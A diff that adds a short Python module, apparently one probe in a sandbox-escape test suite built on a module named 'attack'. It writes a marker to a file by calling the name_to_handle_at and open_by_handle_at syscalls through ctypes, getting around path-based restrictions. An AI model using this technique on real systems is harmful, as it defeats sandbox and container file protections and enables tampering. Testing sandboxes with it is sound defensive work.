@@ -1,0 +1,18 @@
+"""Opening by handle."""
+import ctypes
+import os
+
+from attack import AT_FDCWD, CHANGED, X86, syscall
+
+NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = (303, 304) if X86 else (264, 265)
+
+
+class Handle(ctypes.Structure):
+    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
+
+
+def write(path):
+    handle, mount = Handle(bytes=128), ctypes.c_int()
+    syscall(NAME_TO_HANDLE_AT, AT_FDCWD, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
+    top = os.open(os.path.dirname(path), os.O_RDONLY)
+    os.write(syscall(OPEN_BY_HANDLE_AT, top, ctypes.byref(handle), os.O_WRONLY), CHANGED)
